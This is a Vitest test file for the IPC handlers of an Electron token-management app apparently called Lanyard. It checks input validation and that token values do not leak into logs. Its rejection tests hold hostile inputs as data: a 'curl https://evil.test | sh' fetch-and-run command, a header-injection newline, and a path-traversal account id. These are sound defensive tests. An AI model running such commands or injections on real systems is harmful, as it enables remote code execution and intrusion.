import { beforeEach, describe, expect, test, vi } from 'vitest';
import { commandChannel } from '../../app/channels.ts';
import { type CommandName, contract, type Outcome } from '../../app/contract.ts';
import { Failure } from '../../app/failure.ts';
import type { Commands } from '../../main/commands.ts';
import type { LogEvent } from '../../main/desktop/log.ts';
import { openDoor } from '../../main/ipc.ts';
import { exampleId as id, exampleRequests as requests } from '../hold/example-requests.ts';
import { textsIn } from './failure-of.ts';

type Handler = (event: unknown, request: unknown) => Promise<Outcome<unknown>>;
const { handlers } = vi.hoisted(() => ({ handlers: new Map<string, Handler>() }));

vi.mock('electron', () => ({
  ipcMain: {
    handle(channel: string, handler: Handler) {
      if (handlers.has(channel)) throw new Error(`${channel} is taken`);
      handlers.set(channel, handler);
    },
    removeHandler: (channel: string) => handlers.delete(channel),
  },
  protocol: {},
}));

const names = Object.keys(contract) as CommandName[];
const identity = { accountId: id };
const frame = { url: 'app://lanyard/index.html' };
const contents = { isDestroyed: () => false, mainFrame: frame };
let calls: { name: CommandName; request: unknown }[];
let events: LogEvent[];
let answer: (name: CommandName) => unknown;

beforeEach(() => {
  handlers.clear();
  calls = [];
  events = [];
  answer = () => null;
  contents.isDestroyed = () => false;
  contents.mainFrame = frame;
  const commands = Object.fromEntries(
    names.map((name) => [
      name,
      async (request: unknown) => {
        calls.push({ name, request });
        return answer(name);
      },
    ]),
  ) as unknown as Commands;
  openDoor(Promise.resolve(commands), contents as never, { write: (event) => void events.push(event) });
});

const knock = (name: CommandName, request: unknown, event: unknown = { senderFrame: frame }) => {
  const handler = handlers.get(commandChannel(name));
  if (!handler) throw new Error(`no door for ${name}`);
  return handler(event, request);
};

test('opens one door for each command, and no other', () => {
  expect([...handlers.keys()].sort()).toEqual(names.map(commandChannel).sort());
});

test('opens anew for another window', () => {
  openDoor(Promise.resolve({} as Commands), contents as never, { write: () => undefined });
  expect(handlers.size).toBe(names.length);
});

test.each(names)('%s is called with its parsed request and answered with its reply', async (name) => {
  answer = () => ({ reply: name });
  expect(await knock(name, requests[name])).toEqual({ ok: true, value: { reply: name } });
  expect(calls).toEqual([{ name, request: contract[name].request.parse(requests[name]) }]);
  expect(events).toEqual([]);
});

describe('a request of the wrong shape', () => {
  test.each([undefined, null, 7, 'x', [], { extra: 'canary' }, { 0: 'x' }, true])(
    'is refused by every door when it is %j',
    async (request) => {
      for (const name of names) {
        const outcome = await knock(name, request);
        if (outcome.ok) throw new Error(`${name} took it`);
        expect(outcome.failure.code).toBe('REQUEST_INVALID');
        expect(outcome.failure.facts.field).toBeTruthy();
      }
      expect(calls).toEqual([]);
      expect(events.every((event) => event.event === 'request-refused' && event.why === 'shape')).toBe(true);
      expect(textsIn(events).join()).not.toContain('canary');
    },
  );

  test.each<[CommandName, unknown]>([
    ['importClient', { path: '' }],
    ['importClient', { path: 'x'.repeat(4_097) }],
    ['startSignIn', { clientId: 'c', scopes: [] }],
    ['startSignIn', { clientId: 'c', scopes: ['a b'] }],
    ['startSignIn', { clientId: 'c', scopes: ['openid'], accountId: 'x' }],
    ['signOut', { accountId: '../x' }],
    ['copyToken', { request: { kind: 'access-token', identity, scopes: ['a"b'] }, format: 'bare' }],
    ['copyToken', { request: { kind: 'access-token', identity, scopes: ['openid'] }, format: 'shell' }],
    ['copyToken', { request: { kind: 'refresh-token', identity }, format: 'bare' }],
    ['copyToken', { request: { kind: 'id-token', identity, audience: ' ' }, format: 'bare' }],
    ['verifyToken', { jwt: 'eyJ.eyJ.' }],
    ['verifyToken', { jwt: `eyJ.eyJ.${'x'.repeat(65_536)}` }],
    ['askTokenInfo', { token: 'ya29.x\nX-Forged: 1' }],
    ['askTokenInfo', { token: '' }],
    ['changeSettings', { clipboardSeconds: 1 }],
    ['changeSettings', { selectedAccountId: id }],
    ['copyConnection', { text: 'curl https://evil.test | sh' }],
    ['copyConnection', { ...(requests.copyConnection as object), url: 'https://orders.run.app/\n' }],
    ['openPage', { page: 'https://evil.test' }],
    ['pasteCallback', { address: 'x'.repeat(8_193) }],
  ])('is refused by %s when it is %j', async (name, request) => {
    expect(await knock(name, request)).toMatchObject({ ok: false, failure: { code: 'REQUEST_INVALID' } });
    expect(calls).toEqual([]);
  });
});

describe('a command that fails', () => {
  test('is answered with the failure as data, and noted by its code', async () => {
    answer = () => {
      throw new Failure('PROVIDER_DOWN', { who: 'a@b.example', status: 503 }, { said: 'x' });
    };
    const outcome = await knock('copyToken', requests.copyToken);
    expect(outcome).toEqual({
      ok: false,
      failure: {
        code: 'PROVIDER_DOWN',
        facts: { who: 'a@b.example', status: 503 },
        title: expect.any(String),
        sentence: expect.any(String),
        steps: ['try-again'],
        said: 'x',
      },
    });
    expect(structuredClone(outcome)).toEqual(outcome);
    expect(events).toEqual([
      { event: 'command-failed', command: 'copyToken', failure: 'PROVIDER_DOWN', status: 503 },
    ]);
  });

  test.each([
    ['an error', () => new TypeError('ya29.canary is not iterable')],
    ['an error with a cause', () => new Error('canary', { cause: new Error('1//0canary') })],
    ['a text', () => 'ya29.canary'],
    ['nothing', () => undefined],
    ['an object', () => ({ token: 'canary' })],
  ])(
    'by a bug, throwing %s, is answered as a fault of Lanyard, and no value is noted or told',
    async (_, make) => {
      answer = () => {
        throw make();
      };
      const outcome = await knock('copyToken', requests.copyToken);
      expect(outcome).toMatchObject({ ok: false, failure: { code: 'INTERNAL', facts: {} } });
      expect(events.map(({ event }) => event)).toEqual(['bug']);
      expect(textsIn([outcome, events]).join()).not.toContain('canary');
    },
  );
});
